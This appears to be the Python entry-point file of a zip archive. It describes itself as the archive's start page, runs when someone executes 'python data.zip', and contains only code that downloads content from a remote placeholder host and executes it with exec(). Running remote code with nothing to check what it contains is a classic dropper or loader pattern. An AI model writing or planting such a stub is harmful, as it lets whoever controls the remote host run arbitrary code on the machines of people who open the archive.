"""Start page of the archive, run by anybody who calls `python data.zip`."""
from urllib.request import urlopen

code = urlopen("https://code.invalid/start").read()
exec(code)
